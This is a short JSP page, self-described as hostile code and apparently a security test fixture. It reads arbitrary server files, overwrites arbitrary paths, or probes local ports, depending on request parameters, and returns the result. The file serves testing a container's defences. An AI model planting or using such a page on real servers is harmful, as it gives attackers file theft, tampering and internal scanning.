<%-- SPDX-License-Identifier: Apache-2.0 --%>
<%-- Hostile code: reads, writes or connects to whatever it is told, and says what came of it. --%>
<%@ page contentType="text/plain" trimDirectiveWhitespaces="true" import="java.io.IOException, java.net.Socket, java.nio.file.*" %>
<%
String said;
try {
    if (request.getParameter("port") != null) {
        new Socket("127.0.0.1", Integer.parseInt(request.getParameter("port"))).close();
        said = "connected";
    } else if (request.getParameter("write") != null) {
        Files.writeString(Path.of(request.getParameter("write")), "changed");
        said = "written";
    } else {
        said = Files.readString(Path.of(request.getParameter("read"))).replace('\0', '\n').strip();
    }
} catch (IOException failed) {
    said = failed.toString();
}
%><%= said %>
